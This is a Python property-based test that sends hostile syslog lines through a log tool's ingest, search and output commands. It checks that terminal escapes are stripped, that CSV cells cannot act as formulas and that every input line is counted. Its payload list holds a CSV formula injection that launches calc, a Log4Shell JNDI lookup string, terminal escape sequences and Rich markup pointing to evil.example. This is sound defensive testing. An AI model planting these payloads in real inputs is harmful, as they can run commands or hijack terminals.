"""Hostile input end to end: random bytes, Rich markup, terminal escapes and lines of every length
go through ingest → search → every output format. No traceback, no escape sequence reaches a
terminal, and every input line is accounted for: stored, or counted as dropped with a reason."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from hostwarden.cli import app
from hostwarden.core.config import load_config
from hostwarden.pipelines.ingest_job import run_ingest

HOSTILE = ["[/b]", "[link=https://evil.example/]x[/link]", "\x1b]0;pwned\x07", "\x1b[2J", "\x1b[31m", "=cmd|' /C calc'!A0",
           "\u202e", "\r", "\x00", "\x9b1m", "%n%s", "${jndi:ldap://x/a}"]
word = st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=12),
                 st.sampled_from(["root", "admin", "203.0.113.9", "Failed", "password"]))
syslog = st.builds(lambda user, ip, tail: f"Nov  1 09:00:01 web-01 sshd[42]: Failed password for {user} from {ip} "
                                          f"port 22 ssh2 {tail}".encode("utf-8", "surrogatepass"),
                   word, st.sampled_from(["203.0.113.9", "198.51.100.7", "2001:db8::1"]), word)
free = st.lists(word, min_size=0, max_size=8).map(lambda ws: " ".join(ws).encode("utf-8", "surrogatepass"))
line = st.one_of(syslog, free, st.binary(max_size=120), st.integers(0, 3000).map(lambda n: b"A" * n))


def _lines(data: bytes) -> int:
    return data.count(b"\n") + (1 if data and not data.endswith(b"\n") else 0)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(lines=st.lists(line, min_size=1, max_size=40), empties=st.integers(0, 150), crlf=st.booleans())
def test_hostile_lines_go_through_ingest_search_and_every_output(lines: list[bytes], empties: int, crlf: bool) -> None:
    newline = b"\r\n" if crlf else b"\n"
    body = newline.join(ln.replace(b"\n", b" ") for ln in lines) + newline + newline * empties
    with tempfile.TemporaryDirectory() as tmp:
        log = Path(tmp) / "auth.log"
        log.write_bytes(body)
        (Path(tmp) / "hw.toml").write_text("[ingest]\nmax_line_kb = 1\n")
        cfg = load_config(Path(tmp) / "hw.toml", data_dir=Path(tmp) / "data")
        result = run_ingest(cfg, [str(log)])
        stats = result.stats
        if stats.skipped:  # a random first block read as binary: the whole file is skipped, and says so
            assert stats.lines == 0 and any(n["code"] == "LOG-4107" for n in stats.notices)
            return
        assert stats.lines + stats.dropped.get("empty_lines", 0) == _lines(body), (stats, stats.dropped)
        assert stats.stored == stats.events  # a fresh store: every event produced was kept
        runner = CliRunner()
        base = ["search", "", "--data-dir", str(cfg.data_dir), "--limit", "1000",
                "--fields", "user.name,message,event.original,tags"]
        table = runner.invoke(app, [*base, "--format", "table"], env={"COLUMNS": "200"})
        assert table.exit_code == 0, table.output
        assert "\x1b" not in table.output and "\x07" not in table.output and "\x9b" not in table.output
        as_json = runner.invoke(app, [*base, "--format", "json"])
        rows = json.loads(as_json.stdout)
        assert len(rows) == min(1000, stats.stored)
        as_csv = runner.invoke(app, [*base, "--format", "csv"])
        cells = [c for row in csv.reader(io.StringIO(as_csv.stdout)) for c in row]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
        for command in (["incidents", "list"], ["status"]):
            out = runner.invoke(app, [*command, "--data-dir", str(cfg.data_dir)], env={"COLUMNS": "200"})
            assert out.exception is None or isinstance(out.exception, SystemExit), out.exception
            assert "\x1b" not in out.output
